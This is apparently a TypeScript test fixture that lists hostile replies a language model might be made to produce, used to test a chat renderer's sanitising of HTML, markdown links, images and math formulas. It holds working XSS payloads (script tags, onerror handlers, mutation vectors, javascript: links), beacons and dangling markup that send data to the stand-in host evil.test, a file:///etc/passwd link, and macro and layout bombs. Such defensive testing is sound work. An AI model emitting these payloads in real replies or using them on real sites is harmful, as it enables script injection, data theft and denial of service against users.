// Replies of a model that was told to run script, to load something from elsewhere, or to break the page. Script would set `canary`
// or open a dialog; what is loaded would be asked of evil.test.

export type HostileReply = {
  readonly name: string
  readonly text: string
  /** Also looked at split at every character, as it would stream. */
  readonly isWorst?: true
}

const run = 'window.canary=1,alert(1)'
const evil = 'https://evil.test'

const scripts: HostileReply[] = [
  { name: 'a script', text: `Hello <script>${run}</script> there`, isWorst: true },
  { name: 'a script as a block', text: `<script>\n${run}\n</script>` },
  { name: 'a script from elsewhere', text: `<script src="${evil}/x.js"></script>` },
  { name: 'a module from elsewhere', text: `<script type=module>import "${evil}/x.js"</script>` },
  { name: 'a script in odd letters', text: `<ScRiPt\t/x>${run}</sCrIpT >` },
  { name: 'a script within a script', text: `<scr<script>ipt>${run}</scr</script>ipt>` },
  { name: 'an image that fails', text: `<img src=x onerror="${run}">`, isWorst: true },
  { name: 'an image that fails, unclosed', text: `<img src=x onerror=${run}//` },
  { name: 'an svg that loads', text: `<svg onload="${run}"><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>` },
  { name: 'an svg with a script', text: `<svg><script>${run}</script><use href="${evil}/x.svg#a"/></svg>` },
  { name: 'a foreign object', text: `<svg><foreignObject><iframe srcdoc="<script>parent.canary=1</script>"></foreignObject></svg>` },
  { name: 'a mutation by mathml', text: `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`, isWorst: true },
  { name: 'a mutation by noscript', text: `<noscript><p title="</noscript><img src=x onerror=${run}>">` },
  { name: 'a frame', text: `<iframe src="javascript:${run}"></iframe>\n\n<iframe src="${evil}"></iframe>` },
  { name: 'a frame with its document', text: `<iframe srcdoc="<script>parent.canary=1</script>"></iframe>` },
  {
    name: 'an object and an embedding',
    text: `<object data="${evil}/x.swf"></object><embed src="data:text/html,<script>${run}</script>">`,
  },
  { name: 'details that toggle', text: `<details open ontoggle="${run}"><summary>x</summary></details>` },
  { name: 'a field that takes the focus', text: `<input autofocus onfocus="${run}"><select autofocus onfocus="${run}"></select>` },
  { name: 'an animation that starts', text: `<p style="animation-name:appear" onanimationstart="${run}">x</p>` },
  {
    name: 'a comment that ends early',
    text: `<!--><img src=x onerror="${run}">-->\n\n<![CDATA[><img src=x onerror="${run}">]]>\n\n<?php "?>" ?>`,
  },
  {
    name: 'a template and a shadow',
    text: `<template shadowrootmode=open><script>${run}</script></template><slot onslotchange="${run}"></slot>`,
  },
  { name: 'a custom element', text: `<x-y is=script onclick=${run}>z</x-y>` },
]

const links: HostileReply[] = [
  {
    name: 'a link to script',
    text: `[press](javascript:${run}) [press](JaVaScRiPt:${run}) [press](java&#115;cript&colon;${run})`,
    isWorst: true,
  },
  {
    name: 'a link to script, with blanks',
    text: `[press](<java\tscript:${run}>) [press](<\u0001javascript:${run}>) [press]( javascript:${run})`,
  },
  { name: 'a link to data', text: `[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [press](vbscript:msgbox)` },
  {
    name: 'a reference to script',
    text: `[press][a] [press] ![image][a]\n\n[a]: javascript:${run}\n[press]: <data:text/html,x> "title"`,
    isWorst: true,
  },
  { name: 'an autolink to script', text: `<javascript:${run}> <data:text/html,x> <blob:https://x/y> javascript:${run}` },
  {
    name: 'a link to a file and to the host',
    text: `[a](file:///etc/passwd) [b](//evil.test) [c](/settings/me) [d](\\\\evil.test\\x) [e](?x) [f](#x)`,
  },
  { name: 'a title that ends the attribute', text: `[press](${evil} "x\\" onclick=\\"${run}") [press](${evil}/"onclick="${run})` },
  { name: 'a name and password in a link', text: `[bank](https://bank.test@evil.test/) <https://user:word@evil.test>` },
  { name: 'an e-mail with headers', text: `[mail](mailto:a@b.test?bcc=evil@evil.test&body=x%0d%0aBcc:y) <a@b.test>` },
  { name: 'a link in a link', text: `[outer [inner](javascript:${run})](${evil}) [![x](javascript:${run})](javascript:${run})` },
  {
    name: 'names of prototypes',
    text: `[a](__proto__) [constructor] [__proto__] \`\`\`__proto__\n\n[constructor]: javascript:${run}\n[__proto__]: ${evil}`,
  },
]

const beacons: HostileReply[] = [
  {
    name: 'an image from elsewhere',
    text: `![](${evil}/a.png) ![x](http://evil.test/b.png?q=secret) ![y](//evil.test/c.png)`,
    isWorst: true,
  },
  {
    name: 'an image of data',
    text: `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) ![y](data:image/png;base64,iVBORw0KGgo=)`,
  },
  { name: 'an image with candidates', text: `<picture><source srcset="${evil}/a.png 1x"><img srcset="${evil}/b.png 2x"></picture>` },
  {
    name: 'media from elsewhere',
    text: `<video autoplay poster="${evil}/p.png" src="${evil}/v.mp4"></video><audio src="${evil}/a.mp3"></audio><track src="${evil}/t">`,
  },
  {
    name: 'a style sheet',
    text: `<link rel=stylesheet href="${evil}/x.css"><link rel=preload as=image href="${evil}/x"><link rel=dns-prefetch href="//evil.test">`,
  },
  { name: 'a style', text: `<style>@import "${evil}/x.css"; body { display: none; background: url(${evil}/b) }</style>` },
  {
    name: 'a base, a meta, a refresh',
    text: `<base href="${evil}/"><meta http-equiv=refresh content="0;url=${evil}"><meta http-equiv=Content-Security-Policy content="">`,
  },
  { name: 'a form', text: `<form action="${evil}"><input name=password><button formaction="javascript:${run}">Sign in</button></form>` },
  { name: 'a link that is pinged', text: `<a href="${evil}" ping="${evil}/ping" target=_self rel=opener>x</a><area href="${evil}">` },
  { name: 'dangling markup', text: `<img src='${evil}/?` },
  { name: 'dangling markup with a text', text: `<a href="${evil}/?\n\nThe secret is 42.\n\n<button name='x` },
  {
    name: 'a background of a table',
    text: `<table background="${evil}/t.png"><tr><td style="background:url(${evil}/d)">x</td></tr></table>`,
  },
  {
    name: 'fences that others would draw',
    text: `\`\`\`mermaid\ngraph TD; A[<img src=x onerror=${run}>]-->B; click A "javascript:${run}"\n\`\`\`\n\n\`\`\`html\n<script>${run}</script>\n\`\`\`\n\n\`\`\`svg\n<svg onload="${run}">\n\`\`\``,
  },
  {
    name: 'a fence with a hostile language',
    text: `\`\`\`"><img/src=x/onerror=${run}>\nx\n\`\`\`\n\n~~~constructor\ny\n~~~\n\n\`\`\`../../x\nz\n\`\`\``,
  },
  {
    name: 'entities',
    text: `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62; &#x3c;svg onload=${run}&#x3e; &NewLine;&Tab;`,
  },
  {
    name: 'footnotes',
    text: `A[^1] and[^<img src=x onerror=${run}>] and[^__proto__].\n\n[^1]: <script>${run}</script> [x](javascript:${run})\n[^__proto__]: ![](${evil}/f.png)\n[^<img src=x onerror=${run}>]: y`,
    isWorst: true,
  },
  {
    name: 'ids and names of the page',
    text: `<div id=root name=content>x</div>\n\n# root\n\n<form id=forms name=getElementById><input name=body>`,
  },
]

const formulas: HostileReply[] = [
  {
    name: 'a formula that links',
    text: `$\\href{javascript:${run}}{x}$ $\\url{javascript:${run}}$ $\\href{${evil}}{y}$ \\(\\includegraphics{${evil}/x.png}\\)`,
    isWorst: true,
  },
  {
    name: 'a formula with attributes',
    text: `$\\htmlId{root}{x}$ $\\htmlClass{x}{y}$ $\\htmlStyle{position:fixed;inset:0;background:red}{x}$ $\\htmlData{a=b}{x}$`,
  },
  {
    name: 'macros that double',
    text: `$$\n\\def\\a{xx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c}\\def\\e{\\d\\d\\d\\d\\d\\d\\d\\d}\\e\\e\\e\n$$`,
  },
  {
    name: 'a macro that calls itself',
    text: `$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\y}[1]{\\y{#1#1}}\\y{a}$ $\\def\\z{a\\z}\\z$`,
    isWorst: true,
  },
  { name: 'a macro for the next formula', text: `$\\gdef\\frac#1#2{\\href{javascript:${run}}{x}}$ then $\\frac{1}{2}$` },
  {
    name: 'a formula larger than the page',
    text: `$\\rule{99999em}{99999em}$ $\\hspace{99999em}x$ $\\raisebox{-9999em}{over}$ $\\kern-9999em x$ $$\\Huge\\rule{1em}{9e9em}$$`,
  },
  { name: 'a formula that is very wide', text: `$$\n${'a + '.repeat(400)}b\n$$\n\nInline $${'x'.repeat(300)}$ too.` },
  {
    name: 'a formula that is nested',
    text: `$${'{'.repeat(900)}x${'}'.repeat(900)}$ $${'\\sqrt{'.repeat(300)}x${'}'.repeat(300)}$ $${'x^{'.repeat(300)}`,
  },
  {
    name: 'a huge formula in a fence in a list',
    text: `- $x$\n\n  \`\`\`math\n  ${'\\frac{1}{'.repeat(500)}x${'}'.repeat(500)}\n  \`\`\``,
  },
  { name: 'a matrix of ten thousand cells', text: `$$\n\\begin{matrix}${`${'1&'.repeat(99)}1\\\\`.repeat(100)}\\end{matrix}\n$$` },
]

const layouts: HostileReply[] = [
  {
    name: 'a box over the page',
    text: `<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>\n\n<p class="scroller" style="margin:-9999px">x</p>`,
  },
  { name: 'a word of 100,000 letters', text: 'x'.repeat(100_000) },
  { name: 'a word of Han without a break', text: `\u2060${'織\u2060'.repeat(5_000)}` },
  { name: 'a line of code of 20,000 letters', text: `\`${'y'.repeat(20_000)}\`\n\n    ${'z'.repeat(20_000)}` },
  { name: 'a link of 20,000 letters', text: `<https://example.test/${'a'.repeat(20_000)}>` },
  { name: 'marks that pile up', text: `H${'\u0300\u0323\u0489'.repeat(300)}e${'\u0e49'.repeat(300)}l` },
  {
    name: 'writing turned round',
    text: `\u202e\u2067gnp.exe\u2066 \u202dabc\u202e ${'\u2067'.repeat(200)}x\n\n| \u202e a | b |\n|---|---|\n| 1 | \u2067 2 |`,
    isWorst: true,
  },
  { name: 'what can not be seen', text: `\u200b\u200b\u0000\u0007\u001b[31m\ufeff\u00ad\u{e0001}\u{e0041}x\ud800y` },
  { name: 'quotes in quotes', text: `${'>'.repeat(1_000)} deep\n${'> '.repeat(1_000)}deeper` },
  {
    name: 'lists in lists',
    text: `${'- '.repeat(1_000)}deep\n\n${Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth}`).join('\n')}`,
  },
  { name: 'lists and quotes in turn', text: `${'> 1. - '.repeat(300)}deep` },
  { name: 'emphasis in emphasis', text: `${'*a **b '.repeat(2_000)}\n\n${'_'.repeat(20_000)}x\n\n${'*'.repeat(9_999)}y*` },
  { name: 'open brackets', text: `${'['.repeat(20_000)}x\n\n${'![['.repeat(5_000)}\n\n${'[a]('.repeat(5_000)}` },
  {
    name: 'open backticks',
    text: `${'`'.repeat(20_000)}\n\n${Array.from({ length: 400 }, (_, index) => '`'.repeat(index + 1)).join(' ')}`,
  },
  { name: 'open tags', text: `${'<a '.repeat(5_000)}\n\n${'<'.repeat(20_000)}\n\n${'<!--'.repeat(5_000)}` },
  { name: 'open dollars', text: `${'$x '.repeat(5_000)}\n\n${'$'.repeat(20_000)}\n\n${'\\('.repeat(5_000)} ${'\\['.repeat(5_000)}` },
  { name: 'open tildes', text: `${'~~a '.repeat(5_000)}\n\n${'~'.repeat(20_000)}` },
  {
    name: 'open references',
    text: `${Array.from({ length: 2_000 }, (_, index) => `[a${index}][b${index}]`).join(' ')}\n\n${Array.from({ length: 2_000 }, (_, index) => `[b${index}]: ${evil}/${index}`).join('\n')}`,
  },
  { name: 'pipes', text: `${'|'.repeat(20_000)}\n${'|-'.repeat(10_000)}|\n${'|'.repeat(20_000)}` },
  { name: 'a table of 300 columns', text: `|${' c |'.repeat(300)}\n|${'---|'.repeat(300)}\n|${' some words |'.repeat(300)}` },
  { name: 'a table of 3,000 rows', text: `| a | b |\n|---|---|\n${'| some | words |\n'.repeat(3_000)}` },
  { name: 'a table with a word that does not end', text: `| a | b |\n|---|---|\n| ${'w'.repeat(5_000)} | x |` },
  { name: 'a code block of 5,000 lines', text: `\`\`\`js\n${"const a = { b: 'c' } // d\n".repeat(5_000)}\`\`\`` },
  { name: 'a heading of 10,000 letters', text: `# ${'Big '.repeat(2_500)}\n\n${'# x\n'.repeat(1_000)}` },
  { name: 'ten thousand lines', text: 'a\n\n'.repeat(10_000) },
  {
    name: 'what folds, unclosed, crossed and closed in code',
    text: `${'<details>\n\n'.repeat(3_000)}${'<details>`</details>`\n\n'.repeat(2_000)}${'<summary>'.repeat(300)}`,
  },
  {
    name: 'elements in elements',
    text: `${'<sub>'.repeat(700)}x${'</sub>'.repeat(700)}\n\n${'<u><kbd>'.repeat(300)}x${'</u></kbd>'.repeat(300)}`,
  },
  {
    name: 'elements with attributes',
    text: `<sub onclick="${run}">x</sub> <mark style="position:fixed">y</mark> <details ontoggle="${run}" open>\n<summary onclick="${run}">z</summary>\n</details> <u\nid=root>w</u>`,
    isWorst: true,
  },
  { name: 'footnotes without end', text: `${'[^1]'.repeat(399)}\n\n${'[^1]: x\n'.repeat(5_000)}` },
  { name: 'an address of marks', text: `https://a.example/${'.'.repeat(15_000)}b https://a.example/${'(.'.repeat(5_000)}` },
  { name: 'environments without end', text: `${'\\begin{align}'.repeat(2_000)} ${'a \\begin{cases} '.repeat(2_000)}` },
  { name: 'lines without end', text: '一、甲\n'.repeat(20_000) },
  { name: 'a number that does not end', text: `${'9'.repeat(5_000)}. x\n\n999999999. y\n\n${'1) a\n'.repeat(2_000)}` },
]

/** Each a whole reply. */
export const hostileReplies: readonly HostileReply[] = [...scripts, ...links, ...beacons, ...formulas, ...layouts]
